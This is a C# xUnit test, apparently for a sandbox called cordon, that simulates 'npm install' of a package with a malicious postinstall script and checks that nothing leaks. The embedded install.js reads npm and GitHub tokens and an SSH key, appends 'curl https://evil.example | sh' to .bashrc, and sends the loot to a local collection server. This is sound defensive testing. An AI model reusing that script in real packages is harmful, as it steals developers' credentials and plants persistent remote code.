using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.RegularExpressions;
using Xunit;
using Xunit.Abstractions;

namespace Cordon.Kernel.Tests;

/// <summary>
/// The scenario cordon exists for: `npm install` of a project whose local dependency has a malicious postinstall
/// script. A real npm client, the real registry (for is-number), a real terminal, and a test script that answers
/// the questions as a careful person would: yes to npm's own work, no to anything the postinstall script asks for.
/// </summary>
public sealed partial class SupplyChainTests(ITestOutputHelper output) : IDisposable
{
    private readonly Sandboxed s = new();

    public void Dispose() => s.Dispose();

    [GeneratedRegex(@"cordon: (allowed|denied) (once|from now on|the folder|all|\(no answer\))")]
    private static partial Regex Answered();

    [Fact]
    public async Task Npm_install_with_a_malicious_postinstall_gets_done_and_leaks_nothing()
    {
        // The attacker's collection point: a server on loopback that records whatever reaches it.
        var exfil = new TcpListener(IPAddress.Loopback, 0);
        exfil.Start();
        int port = ((IPEndPoint)exfil.LocalEndpoint).Port;
        var received = new StringBuilder();
        var collecting = Task.Run(async () =>
        {
            try
            {
                while (true)
                {
                    using var c = await exfil.AcceptTcpClientAsync();
                    using var reader = new StreamReader(c.GetStream());
                    var text = await reader.ReadToEndAsync();
                    lock (received)
                    {
                        received.Append(text).Append("\n--\n");
                    }
                }
            }
            catch (Exception e) when (e is SocketException or ObjectDisposedException)
            {
            }
        });

        // Secrets a developer machine has: an npm token, a gh token, an ssh key (s.Secret), a shell rc file.
        File.WriteAllText(Path.Combine(s.Home, ".npmrc"), "//npm.example.internal/:_authToken=NPMRC-" + s.Marker + "\n");
        Directory.CreateDirectory(Path.Combine(s.Home, ".config", "gh"));
        File.WriteAllText(Path.Combine(s.Home, ".config", "gh", "hosts.yml"), "github.com:\n  oauth_token: GH-" + s.Marker + "\n");
        var bashrc = Path.Combine(s.Home, ".bashrc");
        var rcBefore = File.ReadAllText(bashrc);
        var bin = Path.Combine(s.Root, "bin");
        Directory.CreateDirectory(bin);
        File.WriteAllText(Path.Combine(bin, "gh"), "#!/bin/sh\nsed -n 's/.*oauth_token: //p' \"$HOME/.config/gh/hosts.yml\"\n");
        File.SetUnixFileMode(Path.Combine(bin, "gh"), (UnixFileMode)0b111_101_101);

        var project = s.Work;
        s.WorkFile("package.json", """
            {"name":"proj","version":"1.0.0","dependencies":{"is-number":"7.0.0","evil":"file:./evil"},"allowScripts":{"file:../evil":true}}
            """);
        s.WorkFile(".npmrc", "fund=false\naudit=false\nupdate-notifier=false\n");
        s.WorkFile("evil/package.json", """{"name":"evil","version":"1.0.0","scripts":{"postinstall":"node install.js"}}""");
        s.WorkFile("evil/install.js", $$"""
            const cp = require('child_process'), fs = require('fs'), os = require('os'), net = require('net');
            const loot = [];
            const tryIt = (label, f) => { try { loot.push(label + ': ' + f()); } catch (e) { loot.push(label + ' failed: ' + (e.code || e.status)); } };
            tryIt('which gh', () => cp.execSync('which gh').toString().trim());
            tryIt('gh token', () => cp.execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim());
            tryIt('npmrc', () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'));
            tryIt('ssh key', () => fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'));
            tryIt('bashrc', () => { fs.appendFileSync(os.homedir() + '/.bashrc', 'curl https://evil.example | sh\n'); return 'appended'; });
            console.log('evil: ' + loot.join(' | '));
            const c = net.connect({{port}}, '127.0.0.1', () => c.end(loot.join('\n')));
            c.on('error', e => console.log('evil: connect failed ' + e.code));
            """);

        using var t = new Tmux(s, $"export PATH={bin}:$PATH; " + Tmux.Cordon("run -- npm install --foreground-scripts"), columns: 100, rows: 40);
        var questions = new List<string>();
        int honest = 0;
        int? exit = null;
        var deadline = DateTime.UtcNow + TimeSpan.FromMinutes(4);
        while (exit is null && DateTime.UtcNow < deadline)
        {
            var history = t.History();
            int answered = Answered().Count(history);
            int lastBox = history.LastIndexOf("wants to", StringComparison.Ordinal);
            int lastAnswer = history.LastIndexOf("cordon: allowed", StringComparison.Ordinal);
            lastAnswer = Math.Max(lastAnswer, history.LastIndexOf("cordon: denied", StringComparison.Ordinal));
            if (lastBox > lastAnswer && history.IndexOf('╰', lastBox) > 0)
            {
                var box = history[lastBox..history.IndexOf('╰', lastBox)];
                string key = Decide(box, project);
                if (key != "n")
                {
                    honest++;
                }

                questions.Add($"[{key}] " + Regex.Replace(box, @"[│╭╮─\s]+", " ").Trim());
                t.Keys(key);
                var waitUntil = DateTime.UtcNow + TimeSpan.FromSeconds(20);
                while (Answered().Count(t.History()) == answered && DateTime.UtcNow < waitUntil)
                {
                    Thread.Sleep(50);
                }

                continue;
            }

            exit = t.Finished();

            Thread.Sleep(100);
        }

        var final = t.History() + (exit is null ? HangReport.Now() : "");
        exfil.Stop();
        await Task.WhenAny(collecting, Task.Delay(1000));
        output.WriteLine($"{questions.Count} questions, {honest} for npm's own work:");
        foreach (var q in questions)
        {
            output.WriteLine(q);
        }

        output.WriteLine(final);
        Assert.True(exit == 0, "npm install must succeed:\n" + final);
        Assert.True(File.Exists(Path.Combine(project, "node_modules", "is-number", "package.json")), "is-number came from the registry");
        Assert.Contains("evil: ", final, StringComparison.Ordinal); // the postinstall did run
        Assert.DoesNotContain(s.Marker, final, StringComparison.Ordinal);
        lock (received)
        {
            Assert.DoesNotContain(s.Marker, received.ToString(), StringComparison.Ordinal);
            Assert.True(received.Length == 0, "the postinstall script reached the collection server: " + received);
        }

        Assert.Equal(rcBefore, File.ReadAllText(bashrc));
        Assert.True(honest <= 10, $"npm's honest work needed {honest} questions; folder grants should keep it to a handful");
    }

    /// <summary>A careful person: nothing for the postinstall script; npm may work in the project, its cache, read its config and reach the registry.</summary>
    private static string Decide(string box, string project)
    {
        if (box.Contains("install.js", StringComparison.Ordinal))
        {
            return "n";
        }

        if (box.Contains("f folder", StringComparison.Ordinal))
        {
            return "f";
        }

        if (box.Contains(".npmrc", StringComparison.Ordinal))
        {
            return "y";
        }

        return "a";
    }
}
